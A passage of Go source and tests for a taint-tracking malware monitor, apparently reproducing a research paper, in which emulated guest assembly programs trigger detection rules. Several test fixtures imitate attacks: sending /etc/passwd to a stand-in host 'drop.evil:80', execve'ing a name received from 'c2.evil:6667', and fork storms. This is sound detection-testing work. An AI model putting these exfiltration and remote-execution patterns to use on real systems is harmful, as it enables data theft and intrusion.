	st.SetWidthBudget(cfg.TagWidthBudget)
	h := &Harrier{
		Store:       st,
		cfg:         cfg,
		sec:         sec,
		binTags:     make(map[string]taint.Tag),
		hwTag:       st.Of(taint.Source{Type: taint.Hardware, Name: "cpuid"}),
		bbFreq:      make(map[bbKey]*int64),
		lastApp:     make(map[int]bbKey),
		natSave:     make(map[int]taint.Tag),
		appCachePID: -1,
	}
	if cfg.Dataflow && cfg.BBFrequency && cfg.PromoteThreshold > 0 {
		h.tierThreshold = int64(cfg.PromoteThreshold)
		if cfg.TraceThreshold > 0 {
			h.traceThreshold = int64(cfg.TraceThreshold)
		}
		if cfg.CleanThreshold > 0 {
			h.cleanThreshold = int64(cfg.CleanThreshold)
		}
	}
	return h
}

// Secpert returns the attached expert system.
func (h *Harrier) Secpert() *secpert.Secpert { return h.sec }

// SetBus attaches the observability bus. BB counter rollovers and
// periodic taint-substrate samples publish into it.
func (h *Harrier) SetBus(b *obs.Bus) { h.bus = b }

// SetTierTimer attaches the per-tier execution-time attributor. Every
// block dispatch touches the timer with the tier that served it; the
// timer samples the clock only on tier transitions, so a run that
// settles on one tier pays one integer compare per dispatch — and a
// run without a timer pays one nil-check.
func (h *Harrier) SetTierTimer(t *obs.TierTimer) { h.tt = t }

// publishTaintSample emits the periodic taint-substrate snapshot: the
// cumulative union/cache counters plus the executing shadow's TLB
// counters. Out of line so the dataflow hot loop only carries the
// sampling branch.
func (h *Harrier) publishTaintSample(c *isa.CPU) {
	_, unions, hits := h.Store.Stats()
	h.bus.Publish(obs.Event{
		Layer: obs.LayerHarrier, Kind: obs.KindTaintSample,
		Num: unions, Num2: hits,
	})
	if c.Shadow != nil {
		probes, misses := c.Shadow.TLBStats()
		h.bus.Publish(obs.Event{
			Layer: obs.LayerHarrier, Kind: obs.KindTaintTLB,
			Num: probes, Num2: misses,
		})
	}
}

// Stats returns instrumentation counters, including a snapshot of the
// taint store's interning statistics.
func (h *Harrier) Stats() Stats {
	out := h.stats
	out.TaintSets, out.TaintUnions, out.TaintUnionHits = h.Store.Stats()
	out.TaintFastHits = h.Store.FastHits()
	out.TaintWideUnions = h.Store.WideUnions()
	return out
}

// BBFrequency returns the execution count of the block at addr in the
// named image.
func (h *Harrier) BBFrequency(image string, addr uint32) int64 {
	if ctr := h.bbFreq[bbKey{image, addr}]; ctr != nil {
		return *ctr
	}
	return 0
}

func (h *Harrier) binTag(image string) taint.Tag {
	if image == h.binCacheImage && image != "" {
		return h.binCacheTag
	}
	t, ok := h.binTags[image]
	if !ok {
		t = h.Store.Of(taint.Source{Type: taint.Binary, Name: image})
		h.binTags[image] = t
	}
	h.binCacheImage, h.binCacheTag = image, t
	return t
}

// Started installs the CPU hooks on a monitored root process.
func (h *Harrier) Started(p *vos.Process) {
	hooks := isa.Hooks{}
	if h.cfg.Dataflow {
		hooks.OnInstr = h.trackDataFlow
		hooks.OnInstrData = true
		hooks.OnNativePre = h.nativePre
		hooks.OnNativePost = h.nativePost
	}
	if h.cfg.BBFrequency {
		hooks.OnBB = h.collectBBFrequency
	}
	if h.tierThreshold > 0 {
		hooks.OnBBSummary = h.onBBSummary
	}
	p.CPU.Hooks = hooks
	if h.cleanThreshold > 0 && p.CPU.Shadow != nil {
		p.CPU.Shadow.OnPageFlip(h.onPageFlip)
	}
}

// Forked: the child inherits the parent's hooks via CPU.Clone; only
// bookkeeping is needed. Clone-rate attribution (cloneCount,
// cloneTimes) is deliberately tree-global, not per-PID (paper §4.2
// measures the process tree), so fork copies only the last-app-BB
// attribution.
func (h *Harrier) Forked(parent, child *vos.Process) {
	if bb, ok := h.lastAppOf(parent.PID); ok {
		h.lastApp[child.PID] = bb
	}
	// The child's shadow is a fresh Clone: listeners don't ride along,
	// so the clean tier's flip seam must be re-installed per shadow.
	if h.cleanThreshold > 0 && child.CPU.Shadow != nil {
		child.CPU.Shadow.OnPageFlip(h.onPageFlip)
	}
}

// Execed resets per-program attribution state: the process is now a
// different program. Any native-routine tag captured before the exec
// is stale and dropped with it.
func (h *Harrier) Execed(p *vos.Process) {
	h.dropPID(p.PID)
}

// Exited drops per-process state.
func (h *Harrier) Exited(p *vos.Process) {
	h.dropPID(p.PID)
}

// dropPID removes every piece of per-PID state Harrier keeps, and
// invalidates the attribution cache if it points at that PID. Keeping
// all PID-keyed maps behind one helper is what guarantees no state
// leaks across a forking guest's lifetime (see TestExitedDropsPIDState).
func (h *Harrier) dropPID(pid int) {
	delete(h.lastApp, pid)
	delete(h.natSave, pid)
	if h.appCachePID == pid {
		h.appCachePID = -1
	}
}

// collectBBFrequency is the Collect_BB_Frequency analysis of paper
// Figure 5: count the block and remember the last *application* block
// so that events raised inside shared objects are attributed to the
// application code that initiated the call path (Figure 3).
//
// Two caches keep the hot path off the maps: a direct-mapped counter
// cache indexed by leader address absorbs loops that bounce between a
// handful of blocks (bbCache), and the last-app attribution only
// needs a map write when it changes (appCache*).
func (h *Harrier) collectBBFrequency(c *isa.CPU, s *isa.Span, leader int) {
	h.stats.Blocks++
	if h.tt != nil {
		h.tt.Touch(obs.TierInterp)
	}
	p := c.Ctx.(*vos.Process)
	key := bbKey{s.Image, s.Addr(leader)}
	e := &h.bbCache[(key.addr/isa.InstrSize)&(bbCacheSize-1)]
	ctr := e.ctr
	if ctr == nil || e.key != key {
		ctr = h.bbFreq[key]
		if ctr == nil {
			ctr = new(int64)
			h.bbFreq[key] = ctr
		}
		e.key, e.ctr = key, ctr
	}
	*ctr++
	if h.prov != nil {
		h.provBlockScan(c, p.OS.Clock, int32(p.PID), key.addr, key.image, false)
	}
	// Tier promotion: a hot block with an empty summary slot compiles
	// exactly once per slot lifetime (failure pins the slot, success
	// moves subsequent entries onto the OnBBSummary path; an execve
	// invalidation empties the slot and re-arms the trigger).
	if h.tierThreshold > 0 && *ctr >= h.tierThreshold && s.BBSummary(leader) == nil {
		h.maybePromote(c, s, leader, key, ctr)
	}
	if h.bus != nil && uint64(*ctr)&(bbRollQuantum-1) == 0 {
		h.bus.Publish(obs.Event{
			Time: p.OS.Clock, Layer: obs.LayerHarrier, Kind: obs.KindBBRoll,
			PID: int32(p.PID), Num: uint64(key.addr), Num2: uint64(*ctr),
			Str: key.image,
		})
	}
	if s.Image == p.Path {
		if p.PID != h.appCachePID {
			h.flushApp()
			h.appCachePID = p.PID
		}
		h.appCacheKey = key
	}
}

// flushApp spills the write-behind lastApp entry into the map; called
// before the cache is repointed at another PID.
func (h *Harrier) flushApp() {
	if h.appCachePID >= 0 {
		h.lastApp[h.appCachePID] = h.appCacheKey
	}
}

// lastAppOf returns the last application BB recorded for pid,
// consulting the write-behind cache first.
func (h *Harrier) lastAppOf(pid int) (bbKey, bool) {
	if pid == h.appCachePID {
		return h.appCacheKey, true
	}
	bb, ok := h.lastApp[pid]
	return bb, ok
}

// context returns the (frequency, address) attribution for an event
// raised by process p: the last application basic block.
func (h *Harrier) context(p *vos.Process) (int64, string) {
	bb, ok := h.lastAppOf(p.PID)
	if !ok {
		return 0, ""
	}
	return h.BBFrequency(bb.image, bb.addr), fmt.Sprintf("%x", bb.addr)
}

// sourcesAt reads the source set of a guest memory range.
func (h *Harrier) sourcesAt(p *vos.Process, addr, n uint32) []taint.Source {
	if p.CPU.Shadow == nil || n == 0 {
		return nil
	}
	return h.Store.Sources(p.CPU.Shadow.GetRange(addr, n))
}

func (h *Harrier) decision(d secpert.Decision) vos.Verdict {
	if d == secpert.Terminate {
		return vos.Kill
	}
	return vos.Continue
}

// sendAccess forwards an access event to Secpert, logging it with the
// verdict.
func (h *Harrier) sendAccess(ev *events.Access) vos.Verdict {
	d := h.sec.HandleAccess(ev)
	h.logAccess(ev, d)
	return h.decision(d)
}

// sendIO forwards an I/O event to Secpert, logging it with the
// verdict.
func (h *Harrier) sendIO(ev *events.IO) vos.Verdict {
	d := h.sec.HandleIO(ev)
	h.logIO(ev, d)
	return h.decision(d)
}
