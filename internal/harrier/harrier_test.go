package harrier

import (
	"strings"
	"testing"

	"repro/internal/asm"
	"repro/internal/guestlib"
	"repro/internal/secpert"
	"repro/internal/taint"
	"repro/internal/vos"
)

// world is a test fixture: an OS with guestlib, a Harrier, a Secpert.
type world struct {
	os  *vos.OS
	h   *Harrier
	sec *secpert.Secpert
}

func newWorld(t *testing.T) *world {
	t.Helper()
	os := vos.New(vos.Options{})
	guestlib.InstallInto(os)
	sec := secpert.New(secpert.DefaultConfig(), nil)
	h := New(DefaultConfig(), sec)
	return &world{os: os, h: h, sec: sec}
}

func (w *world) install(t *testing.T, path, src string) {
	t.Helper()
	w.os.FS.Install(path, asm.MustAssemble(path, src))
}

func (w *world) run(t *testing.T, spec vos.ProcSpec) *vos.Process {
	t.Helper()
	spec.Monitor = w.h
	spec.Store = w.h.Store
	p, err := w.os.StartProcess(spec)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.os.Run(); err != nil {
		t.Fatalf("run: %v", err)
	}
	return p
}

func (w *world) warnings() []secpert.Warning { return w.sec.Warnings() }

func requireWarning(t *testing.T, ws []secpert.Warning, sev secpert.Severity, substr string) {
	t.Helper()
	for _, w := range ws {
		if w.Severity == sev && strings.Contains(w.Message, substr) {
			return
		}
	}
	t.Fatalf("no [%s] warning containing %q; got %v", sev, substr, ws)
}

// --- Execution flow (paper Table 4 shapes) ---

func TestExecveHardcodedDetected(t *testing.T) {
	w := newWorld(t)
	w.install(t, "/bin/ls", ".text\n_start: hlt\n")
	w.install(t, "/bin/prog", `
.text
_start:
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    hlt
.data
prog: .asciz "/bin/ls"
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	ws := w.warnings()
	if len(ws) != 1 {
		t.Fatalf("warnings = %v", ws)
	}
	requireWarning(t, ws, secpert.Low, `Found SYS_execve call ("/bin/ls")`)
	requireWarning(t, ws, secpert.Low, `originated from ("/bin/prog")`)
}

func TestExecveUserInputClean(t *testing.T) {
	// The program name arrives on stdin: no warning (Table 4, "User
	// input" row is correctly classified as not malicious).
	w := newWorld(t)
	w.install(t, "/bin/ls", ".text\n_start: hlt\n")
	w.install(t, "/bin/prog", `
.text
_start:
    mov ebx, 0          ; stdin
    mov ecx, buf
    mov edx, 32
    mov eax, 3          ; read
    int 0x80
    ; NUL-terminate: buf[result-1] is '\n'? stdin has exact bytes.
    mov ebx, buf
    mov ecx, 0
    mov edx, 0
    mov eax, 11         ; execve
    int 0x80
    hlt
.data
buf: .space 32
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog", Stdin: []byte("/bin/ls")})
	if ws := w.warnings(); len(ws) != 0 {
		t.Fatalf("user-input execve warned: %v", ws)
	}
}

func TestExecveArgvClean(t *testing.T) {
	// The program name arrives as argv[1] (command line): USER_INPUT.
	w := newWorld(t)
	w.install(t, "/bin/ls", ".text\n_start: hlt\n")
	w.install(t, "/bin/prog", `
.text
_start:
    mov esi, [esp+4]
    mov ebx, [esi+4]    ; argv[1]
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    hlt
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog", Argv: []string{"/bin/prog", "/bin/ls"}})
	if ws := w.warnings(); len(ws) != 0 {
		t.Fatalf("argv execve warned: %v", ws)
	}
}

type sendNameScript struct{ name string }

func (s sendNameScript) OnConnect(c *vos.RemoteConn)  { c.Send([]byte(s.name)) }
func (sendNameScript) OnData(*vos.RemoteConn, []byte) {}

func TestExecveRemoteNameHigh(t *testing.T) {
	// The program name arrives over a socket — the remote attacker
	// picks what runs (Table 4 "Remote execve" → High).
	w := newWorld(t)
	w.install(t, "/bin/ls", ".text\n_start: hlt\n")
	w.os.Net.AddRemote("c2.evil:6667", func() vos.RemoteScript {
		return sendNameScript{name: "/bin/ls"}
	})
	w.install(t, "/bin/prog", `
.text
_start:
    mov eax, 102
    mov ebx, 1          ; socket
    mov ecx, scargs
    int 0x80
    mov [scargs], eax
    mov [scargs+4], addr
    mov eax, 102
    mov ebx, 3          ; connect
    mov ecx, scargs
    int 0x80
    mov [scargs+4], buf
    mov [scargs+8], 32
    mov eax, 102
    mov ebx, 10         ; recv
    mov ecx, scargs
    int 0x80
    mov ebx, buf
    mov ecx, 0
    mov edx, 0
    mov eax, 11         ; execve
    int 0x80
    hlt
.data
addr:   .asciz "c2.evil:6667"
buf:    .space 32
scargs: .space 12
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	requireWarning(t, w.warnings(), secpert.High, `Found SYS_execve call ("/bin/ls")`)
	requireWarning(t, w.warnings(), secpert.High, `originated from ("c2.evil:6667")`)
}

func TestExecveInfrequentMedium(t *testing.T) {
	// Hardcoded execve after a long sleep in a block that runs once:
	// the rarity reinforcement lifts Low to Medium (Table 4
	// "Infrequent execve").
	w := newWorld(t)
	w.install(t, "/bin/ls", ".text\n_start: hlt\n")
	w.install(t, "/bin/prog", `
.text
_start:
    ; burn time so the program "started a while ago"
    mov ebx, 30000
    mov eax, 162        ; nanosleep
    int 0x80
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    hlt
.data
prog: .asciz "/bin/ls"
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	ws := w.warnings()
	if len(ws) != 1 || ws[0].Severity != secpert.Medium {
		t.Fatalf("warnings = %v", ws)
	}
	requireWarning(t, ws, secpert.Medium, "rarely executed")
}

// --- Taint propagation through computation ---

func TestTaintThroughRegistersAndMemory(t *testing.T) {
	// Data read from a hardcoded-named file is copied byte by byte
	// through registers into a second buffer and then written to a
	// hardcoded socket: the file→socket rule must still see the FILE
	// source (paper §7.3.1 propagation).
	w := newWorld(t)
	w.os.FS.Create("/etc/passwd", []byte("root:x:0"))
	w.os.Net.AddRemote("drop.evil:80", func() vos.RemoteScript {
		return sendNameScript{name: ""}
	})
	w.install(t, "/bin/prog", `
.import "libc.so"
.text
_start:
    ; open hardcoded /etc/passwd
    mov ebx, path
    mov ecx, 0
    mov eax, 5
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, 8
    mov eax, 3          ; read
    int 0x80
    ; copy buf -> buf2 via memcpy (byte loop through registers)
    mov ebx, buf2
    mov ecx, buf
    mov edx, 8
    call memcpy
    ; connect to hardcoded socket
    mov eax, 102
    mov ebx, 1
    mov ecx, scargs
    int 0x80
    mov [scargs], eax
    mov [scargs+4], addr
    mov eax, 102
    mov ebx, 3
    mov ecx, scargs
    int 0x80
    ; send(conn, buf2, 8)
    mov [scargs+4], buf2
    mov [scargs+8], 8
    mov eax, 102
    mov ebx, 9
    mov ecx, scargs
    int 0x80
    hlt
.data
path:   .asciz "/etc/passwd"
addr:   .asciz "drop.evil:80"
buf:    .space 8
buf2:   .space 8
scargs: .space 12
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	requireWarning(t, w.warnings(), secpert.High,
		"Data Flowing From: /etc/passwd To: drop.evil:80 (AF_INET)")
	requireWarning(t, w.warnings(), secpert.High, "source filename was hardcoded in:")
}

func TestUserFileToHardcodedSocketLow(t *testing.T) {
	// Same flow but the file name comes from argv: Low (Table 6
	// File→socket, "User input, Hardcoded").
	w := newWorld(t)
	w.os.FS.Create("/home/me/notes", []byte("hello wo"))
	w.os.Net.AddRemote("drop.evil:80", func() vos.RemoteScript {
		return sendNameScript{name: ""}
	})
	w.install(t, "/bin/prog", `
.text
_start:
    mov esi, [esp+4]
    mov ebx, [esi+4]    ; argv[1]: the file name
    mov ecx, 0
    mov eax, 5
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, 8
    mov eax, 3
    int 0x80
    mov eax, 102
    mov ebx, 1
    mov ecx, scargs
    int 0x80
    mov [scargs], eax
    mov [scargs+4], addr
    mov eax, 102
    mov ebx, 3
    mov ecx, scargs
    int 0x80
    mov [scargs+4], buf
    mov [scargs+8], 8
    mov eax, 102
    mov ebx, 9
    mov ecx, scargs
    int 0x80
    hlt
.data
addr:   .asciz "drop.evil:80"
buf:    .space 8
scargs: .space 12
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog", Argv: []string{"/bin/prog", "/home/me/notes"}})
	ws := w.warnings()
	requireWarning(t, ws, secpert.Low, "source filename was given by the user")
	for _, warn := range ws {
		if warn.Severity == secpert.High {
			t.Fatalf("unexpected High: %v", warn)
		}
	}
}

func TestCPUIDHardwareToFile(t *testing.T) {
	// CPUID output written to a hardcoded file: High (paper §4.3
	// rule 2; Table 6 Hardware→File).
	w := newWorld(t)
	w.install(t, "/bin/prog", `
.text
_start:
    cpuid
    mov [buf], eax
    mov [buf+4], ebx
    mov ebx, out
    mov eax, 8          ; creat
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, 8
    mov eax, 4          ; write
    int 0x80
    hlt
.data
out: .asciz "/tmp/hwid"
buf: .space 8
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	requireWarning(t, w.warnings(), secpert.High, "HARDWARE")
}

func TestGethostbynameShortCircuit(t *testing.T) {
	// The hostname is hardcoded; gethostbyname translates it outside
	// the program's data flow; the connect must still classify the
	// address as hardcoded (paper §7.2) — so the exfiltration write
	// is High, not unknown.
	w := newWorld(t)
	w.os.Net.AddHost("pop.mail.yahoo.com", "216.136.173.10")
	w.os.Net.AddRemote("216.136.173.10:110", func() vos.RemoteScript {
		return sendNameScript{name: ""}
	})
	w.os.FS.Create("/etc/passwd", []byte("root:x:0"))
	w.install(t, "/bin/prog", `
.import "libc.so"
.text
_start:
    ; resolve the hardcoded host name
    mov ebx, host
    call gethostbyname
    cmp eax, 0
    jz fail
    mov edi, eax        ; resolved address string
    ; build "addr:port" into connbuf: strcpy then append ":110"
    mov ebx, connbuf
    mov ecx, edi
    call strcpy
    ; find end of string
    mov ebx, connbuf
    call strlen
    mov ebx, connbuf
    add ebx, eax
    mov ecx, port
    call strcpy
    ; open the file (hardcoded name)
    mov ebx, path
    mov ecx, 0
    mov eax, 5
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, 8
    mov eax, 3
    int 0x80
    ; connect to the resolved address
    mov eax, 102
    mov ebx, 1
    mov ecx, scargs
    int 0x80
    mov [scargs], eax
    mov [scargs+4], connbuf
    mov eax, 102
    mov ebx, 3
    mov ecx, scargs
    int 0x80
    cmp eax, 0
    jnz fail
    ; send the file data
    mov [scargs+4], buf
    mov [scargs+8], 8
    mov eax, 102
    mov ebx, 9
    mov ecx, scargs
    int 0x80
    hlt
fail:
    mov ebx, 9
    mov eax, 1
    int 0x80
.data
host:    .asciz "pop.mail.yahoo.com"
port:    .asciz ":110"
path:    .asciz "/etc/passwd"
buf:     .space 8
connbuf: .space 32
scargs:  .space 12
`)
	p := w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	if p.ExitCode == 9 {
		t.Fatal("guest failed to resolve/connect")
	}
	// Both names hardcoded → High file→socket flow.
	requireWarning(t, w.warnings(), secpert.High, "source filename was hardcoded in:")
	requireWarning(t, w.warnings(), secpert.High,
		"Data Flowing From: /etc/passwd To: 216.136.173.10:110 (AF_INET)")
}

func TestShortCircuitDisabledLosesOrigin(t *testing.T) {
	// Ablation: without dataflow instrumentation the resolved address
	// carries no BINARY origin and the flow is not flagged High.
	w := newWorld(t)
	w.h = New(Config{Dataflow: false, BBFrequency: true, CloneRateWindow: 20000}, w.sec)
	w.os.Net.AddHost("pop.mail.yahoo.com", "216.136.173.10")
	w.os.Net.AddRemote("216.136.173.10:110", func() vos.RemoteScript {
		return sendNameScript{name: ""}
	})
	w.install(t, "/bin/prog", `
.import "libc.so"
.text
_start:
    mov ebx, host
    call gethostbyname
    hlt
.data
host: .asciz "pop.mail.yahoo.com"
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	if len(w.warnings()) != 0 {
		t.Fatalf("warnings = %v", w.warnings())
	}
	if w.h.Stats().Instructions != 0 {
		t.Error("dataflow ran while disabled")
	}
}

// --- Resource abuse (Table 5 shapes) ---

func TestForkLoopResourceAbuse(t *testing.T) {
	w := newWorld(t)
	w.install(t, "/bin/prog", `
.text
_start:
    mov esi, 12         ; forks
loop:
    mov eax, 2          ; fork
    int 0x80
    cmp eax, 0
    jz child
    dec esi
    cmp esi, 0
    jnz loop
    hlt
child:
    mov ebx, 1000
    mov eax, 162        ; nanosleep
    int 0x80
    mov ebx, 0
    mov eax, 1
    int 0x80
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	requireWarning(t, w.warnings(), secpert.Low, "This call was frequent")
	requireWarning(t, w.warnings(), secpert.Medium, "very frequent in a short period of time")
}

// --- Basic-block attribution (paper Figure 3) ---

func TestLastAppBBAttribution(t *testing.T) {
	// The execve goes through libc's system(); the event must be
	// attributed to the *application* basic block that called
	// system(), with that block's frequency, not to libc.so code.
	w := newWorld(t)
	w.install(t, "/bin/sh", ".text\n_start: hlt\n")
	w.install(t, "/bin/prog", `
.import "libc.so"
.text
_start:
    mov esi, 3
loop:
    ; the loop block runs 3 times
    dec esi
    cmp esi, 0
    jnz loop
    mov ebx, cmd
    call system
    hlt
.data
cmd: .asciz "echo hi"
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	// The execve of /bin/sh is filtered (trusted libc), but the fork
	// inside system() generated a clone event whose frequency must
	// come from an application block (frequency >= 1, address set).
	// Verify through the BB counter directly.
	if w.h.BBFrequency("/bin/prog", 0) == 0 {
		// Leader address of _start is the image base; look it up.
		found := false
		for addr := uint32(0x08048000); addr < 0x08048100; addr += 4 {
			if w.h.BBFrequency("/bin/prog", addr) > 0 {
				found = true
				break
			}
		}
		if !found {
			t.Fatal("no application BB counted")
		}
	}
	// libc blocks were counted under their own image.
	libcCounted := false
	for addr := uint32(0x40000000); addr < 0x40001000; addr += 4 {
		if w.h.BBFrequency("libc.so", addr) > 0 {
			libcCounted = true
			break
		}
	}
	if !libcCounted {
		t.Fatal("no libc BB counted")
	}
}

func TestSystemLibcTrustedNoWarning(t *testing.T) {
	// The ElmExploit case (§8.3.1): system("...") execs /bin/sh whose
	// path string lives in libc.so — trusted, so check_execve stays
	// silent.
	w := newWorld(t)
	w.install(t, "/bin/sh", ".text\n_start: hlt\n")
	w.install(t, "/bin/prog", `
.import "libc.so"
.text
_start:
    mov ebx, cmd
    call system
    hlt
.data
cmd: .asciz "/bin/cat ./tmpmail | /usr/sbin/sendmail -t"
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	for _, warn := range w.warnings() {
		if warn.Rule == "check_execve" {
			t.Fatalf("trusted /bin/sh execve warned: %v", warn)
		}
	}
}

// --- Monitoring across fork and exec ---

func TestMonitoringSurvivesExec(t *testing.T) {
	// After execve the monitor keeps watching: the second program's
	// hardcoded execve is caught.
	w := newWorld(t)
	w.install(t, "/bin/ls", ".text\n_start: hlt\n")
	w.install(t, "/bin/stage2", `
.text
_start:
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    hlt
.data
prog: .asciz "/bin/ls"
`)
	w.install(t, "/bin/prog", `
.text
_start:
    mov esi, [esp+4]
    mov ebx, [esi+4]    ; argv[1] = /bin/stage2 (user input: no warn)
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    hlt
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog", Argv: []string{"/bin/prog", "/bin/stage2"}})
	requireWarning(t, w.warnings(), secpert.Low, `Found SYS_execve call ("/bin/ls")`)
	requireWarning(t, w.warnings(), secpert.Low, `originated from ("/bin/stage2")`)
}

func TestStatsPopulated(t *testing.T) {
	w := newWorld(t)
	w.install(t, "/bin/prog", `
.text
_start:
    mov ebx, f
    mov eax, 8
    int 0x80
    hlt
.data
f: .asciz "/tmp/x"
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	st := w.h.Stats()
	if st.Instructions == 0 || st.Blocks == 0 || st.AccessEvents == 0 {
		t.Errorf("stats = %+v", st)
	}
}

func TestEventLogTranscript(t *testing.T) {
	w := newWorld(t)
	w.install(t, "/bin/ls", ".text\n_start: hlt\n")
	w.install(t, "/bin/prog", `
.text
_start:
    mov ebx, f
    mov eax, 8          ; creat
    int 0x80
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    mov eax, 11         ; execve
    int 0x80
    hlt
.data
f:    .asciz "/tmp/x"
prog: .asciz "/bin/ls"
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	log := w.h.EventLog()
	if len(log) != 2 {
		t.Fatalf("log entries = %d: %v", len(log), log)
	}
	if log[0].Access == nil || log[0].Access.Call != "SYS_creat" {
		t.Errorf("entry 0 = %s", log[0])
	}
	if log[1].Access == nil || log[1].Access.Call != "SYS_execve" {
		t.Errorf("entry 1 = %s", log[1])
	}
	tr := w.h.Transcript()
	if !strings.Contains(tr, "#1 pid 1 SYS_creat") ||
		!strings.Contains(tr, `SYS_execve FILE "/bin/ls"`) {
		t.Errorf("transcript = %q", tr)
	}
}

func TestEventLogDisabled(t *testing.T) {
	w := newWorld(t)
	cfg := DefaultConfig()
	cfg.KeepEventLog = false
	w.h = New(cfg, w.sec)
	w.install(t, "/bin/prog", `
.text
_start:
    mov ebx, f
    mov eax, 8
    int 0x80
    hlt
.data
f: .asciz "/tmp/x"
`)
	w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	if len(w.h.EventLog()) != 0 {
		t.Error("log kept while disabled")
	}
}

func TestCloneRateWindowSlides(t *testing.T) {
	// Clones spread far apart in time trip the *count* threshold but
	// not the *rate* threshold: the sliding window forgets old ones.
	w := newWorld(t)
	cfg := DefaultConfig()
	cfg.CloneRateWindow = 3_000 // narrow window
	w.h = New(cfg, w.sec)
	w.install(t, "/bin/slowforker", `
.text
_start:
    mov esi, 10
loop:
    mov eax, 2          ; fork
    int 0x80
    cmp eax, 0
    jz child
    ; long pause between forks: outside the rate window
    mov ebx, 5000
    mov eax, 162        ; nanosleep
    int 0x80
    dec esi
    cmp esi, 0
    jnz loop
    hlt
child:
    mov ebx, 0
    mov eax, 1
    int 0x80
`)
	w.run(t, vos.ProcSpec{Path: "/bin/slowforker"})
	var low, medium int
	for _, warn := range w.warnings() {
		switch warn.Rule {
		case "check_clone_count":
			low++
		case "check_clone_rate":
			medium++
		}
	}
	if low != 1 {
		t.Errorf("count warnings = %d, want 1", low)
	}
	if medium != 0 {
		t.Errorf("rate warnings = %d, want 0 (slow forker)", medium)
	}
}

func TestExecveArgvPropagates(t *testing.T) {
	// Arguments passed to execve arrive in the new program's argv.
	w := newWorld(t)
	w.install(t, "/bin/echoarg", `
.text
_start:
    mov esi, [esp+4]
    mov ebx, [esi+4]    ; argv[1]
    mov ecx, ebx
    mov ebx, 1
    mov edx, 5
    mov eax, 4          ; write argv[1] to stdout
    int 0x80
    hlt
`)
	w.install(t, "/bin/prog", `
.text
_start:
    ; build argv = ["/bin/echoarg", "HELLO"]
    mov [argv], prog
    mov [argv+4], msg
    mov [argv+8], 0
    mov ebx, prog
    mov ecx, argv
    mov edx, 0
    mov eax, 11         ; execve
    int 0x80
    hlt
.data
prog: .asciz "/bin/echoarg"
msg:  .asciz "HELLO"
argv: .space 12
`)
	p := w.run(t, vos.ProcSpec{Path: "/bin/prog"})
	if got := string(p.Stdout); got != "HELLO" {
		t.Errorf("stdout = %q", got)
	}
}

// TestExitedDropsPIDState proves no per-PID state leaks across a
// heavily forking guest: a parent issues 1000 forks whose children
// exit immediately (each child calls gethostbyname-free code, so the
// only per-PID maps in play are lastApp and natSave, both copied or
// created via the fork path). After the tree has exited, every
// PID-keyed map must be empty.
func TestExitedDropsPIDState(t *testing.T) {
	w := newWorld(t)
	w.install(t, "/bin/forkstorm", `
.text
_start:
    mov esi, 1000       ; forks to issue
loop:
    mov eax, 2          ; SYS_fork
    int 0x80
    cmp eax, 0
    jz child
    dec esi
    cmp esi, 0
    jnz loop
    mov ebx, 0
    mov eax, 1          ; SYS_exit
    int 0x80
child:
    mov ebx, 0
    mov eax, 1          ; SYS_exit
    int 0x80
`)
	w.run(t, vos.ProcSpec{Path: "/bin/forkstorm"})
	if n := len(w.h.lastApp); n != 0 {
		t.Errorf("lastApp leaked %d entries after all PIDs exited", n)
	}
	if n := len(w.h.natSave); n != 0 {
		t.Errorf("natSave leaked %d entries after all PIDs exited", n)
	}
	if w.h.appCachePID != -1 {
		t.Errorf("appCache still points at PID %d after exit", w.h.appCachePID)
	}
}

// TestExecClearsNatSave asserts the bookkeeping consistency fix: a
// native-routine tag captured before execve must not survive into the
// new program image.
func TestExecClearsNatSave(t *testing.T) {
	w := newWorld(t)
	h := w.h
	h.natSave[1] = h.Store.Of(taint.Source{Type: taint.Socket, Name: "stale"})
	h.lastApp[1] = bbKey{image: "/bin/old", addr: 0x1000}
	h.Execed(&vos.Process{PID: 1})
	if _, ok := h.natSave[1]; ok {
		t.Error("natSave survived execve")
	}
	if _, ok := h.lastApp[1]; ok {
		t.Error("lastApp survived execve")
	}
}

// TestFaultDropsPIDState asserts that a guest terminated by a CPU
// fault (here: divide by zero) — not a clean exit or a kill — still
// flows through Exited and releases every piece of Harrier's per-PID
// state. Fault termination is the path chaos-injected failures push
// guests down most often, so it must not leak monitor state.
func TestFaultDropsPIDState(t *testing.T) {
	w := newWorld(t)
	w.install(t, "/bin/crasher", `
.text
_start:
    mov eax, 2          ; SYS_fork
    int 0x80
    cmp eax, 0
    jz child
    mov ebx, 0
    mov ecx, 0
    mov eax, 7          ; SYS_waitpid (any child)
    int 0x80
    mov ebx, 0
    mov eax, 1          ; SYS_exit
    int 0x80
child:
    mov eax, 1
    div eax, 0          ; fault: divide by zero
`)
	p := w.run(t, vos.ProcSpec{Path: "/bin/crasher"})
	if p.Fault != nil {
		t.Fatalf("parent faulted: %v", p.Fault)
	}
